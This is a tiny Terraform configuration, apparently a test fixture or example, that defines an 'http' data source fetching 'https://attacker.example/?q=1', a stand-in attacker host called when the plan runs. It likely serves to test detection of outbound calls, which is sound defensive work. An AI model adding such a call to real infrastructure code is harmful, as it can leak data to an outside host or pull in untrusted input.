data "http" "x" {
  url = "https://attacker.example/?q=1"
}
